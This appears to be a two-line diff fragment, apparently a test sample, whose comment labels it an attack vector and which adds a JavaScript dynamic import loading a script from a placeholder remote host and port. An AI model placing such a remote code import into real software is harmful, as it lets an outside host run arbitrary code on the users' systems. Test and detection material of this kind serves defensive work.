@@ -1,0 +1,2 @@
+// vector: dynamic import from a name
+import("http://$NAME:$PORT/x.js");
